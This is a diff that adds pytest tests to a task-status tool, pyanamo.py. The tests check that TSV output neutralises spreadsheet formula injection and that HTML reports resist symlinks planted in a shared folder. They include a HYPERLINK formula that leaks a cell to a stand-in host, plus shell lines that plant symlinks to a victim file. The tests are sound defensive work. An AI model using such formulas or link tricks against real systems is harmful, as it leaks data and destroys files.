@@ -1,9 +1,12 @@
 from __future__ import annotations
 
 import json
+import stat
+import sys
 import time
 from collections import Counter
 from collections.abc import Callable
+from pathlib import Path
 from typing import Any
 
 import pytest
@@ -11,6 +14,7 @@ import pytest
 from tests.operator.conftest import HOSTILE, Workflow
 from tests.support import workflow
 from tests.support.proxy import Proxy, Reply, failing, on, passing
+from tests.support.scripts import ROOT
 from tests.support.table import Table
 
 Run = Callable[..., Any]
@@ -143,6 +147,63 @@ def test_items_of_a_state_say_what_there_is_to_know(run: Run, small: Any) -> Non
     ]
     assert "no space left" in run("pyanamo.py", *words, "--output", "tsv").stdout
     assert "1 failed task, by cause" in run("pyanamo.py", *words).stdout
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1)'
+
+
+def test_a_spreadsheet_finds_no_formula_in_tsv(run: Run, small: Any) -> None:
+    ids = [FORMULA, "+1+1", "-1+1", "@SUM(A1)", '"=1+1"', "-1", "+2.5e3", "a=b", "-"]
+    entry = workflow.entry("S", 3, "Execution Failed: exit 3", FORMULA)
+    table = small(*(workflow.item(task_id, "failed", Log=entry) for task_id in ids))
+    words = ["status", "-t", table.name, "--output", "tsv"]
+    listed = run("pyanamo.py", *words, "--state", "failed").stdout.splitlines()[1:]
+    by_task = run("pyanamo.py", *words, "--by-task").stdout.splitlines()[1:]
+    inert = {"-1", "+2.5e3", "a=b"}
+    expected = sorted(task_id if task_id in inert else f"'{task_id}" for task_id in ids)
+    assert sorted(line.split("\t")[2] for line in listed) == expected
+    assert sorted(line.split("\t")[0] for line in by_task) == expected
+    assert {line.split("\t")[-1] for line in listed} == {f"'{FORMULA}"}
+    # Whoever reads JSON gets what the table has
+    found = json.loads(run("pyanamo.py", *words[:-1], "json", "--state", "failed").stdout)
+    assert {item["taskID"] for item in found} == set(ids)
+
+
+def write_report(run: Run, table: Table, before: str, file: Path) -> Any:
+    """Have the report written, by a shell that first does something else under the same pid."""
+    command = [sys.executable, ROOT / "pyanamo.py", "status", "-t", table.name, "--html", file]
+    return run("bash", "-c", f'{before}; exec "$@"', "bash", *command)
+
+
+def test_a_report_is_written_through_no_link_that_others_put_there(
+    run: Run, table: Table, tmp_path: Path
+) -> None:
+    victim = tmp_path / "victim"
+    victim.write_text("precious")
+    folder = tmp_path / "shared"
+    folder.mkdir()
+    report = folder / "report.html"
+    # Names that can be guessed from the report's and the process's
+    names = ["report.html", ".report.html.$$", "report.html.tmp", ".report.html.tmp"]
+    links = "; ".join(f"ln -s {victim} {folder}/{name}" for name in names)
+    ended = write_report(run, table, f"{links}; umask 027", report)
+    assert ended.returncode == 0, ended.stderr
+    assert victim.read_text() == "precious"
+    assert not report.is_symlink()
+    assert "</html>" in report.read_text()
+    assert stat.S_IMODE(report.stat().st_mode) == 0o640
+    assert not [path for path in folder.iterdir() if not path.is_symlink() and path != report]
+
+
+def test_a_report_that_cannot_be_written_leaves_nothing_behind(
+    run: Run, table: Table, tmp_path: Path
+) -> None:
+    folder = tmp_path / "folder"
+    (folder / "report.html").mkdir(parents=True)
+    ended = write_report(run, table, "umask 022", folder / "report.html")
+    assert ended.returncode == 2
+    assert "report.html cannot be written: Is a directory" in ended.stderr
+    assert [path.name for path in folder.iterdir()] == ["report.html"]
 
 
 def without_pages(request: Any, forward: Any) -> Reply | None:
